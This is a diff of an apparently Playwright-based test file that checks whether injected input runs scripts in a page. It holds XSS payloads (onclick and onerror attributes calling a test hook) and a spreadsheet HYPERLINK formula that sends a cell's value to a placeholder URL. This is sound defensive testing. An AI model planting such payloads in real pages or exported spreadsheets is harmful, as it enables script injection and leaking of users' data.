@@ -20,9 +20,8 @@ const QUANTITY = '<b onclick=hurt()>';
 const EMAIL = `"><img/src=x/onerror=hurt()>`;
 const FORMULA = '=HYPERLINK("https://example.org?"&A1,"look")';
 const PICTURE = `${NOWHERE}"onerror="hurt()`;
-const PIXEL = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
 
-/** Records whether a script ran. */
+/** Records whether a script ran, or a picture was asked for elsewhere. */
 async function watch(page: Page): Promise<string[]> {
   const hurts: string[] = [];
   page.on('dialog', (dialog) => {
@@ -30,7 +29,9 @@ async function watch(page: Page): Promise<string[]> {
     void dialog.dismiss();
   });
   await page.exposeFunction('hurt', () => hurts.push(page.url()));
-  await page.route(`${NOWHERE}**`, (route) => route.fulfill({ contentType: 'image/gif', body: PIXEL }));
+  page.on('request', (asked) => {
+    if (asked.url().startsWith(NOWHERE)) hurts.push(asked.url());
+  });
   return hurts;
 }
 
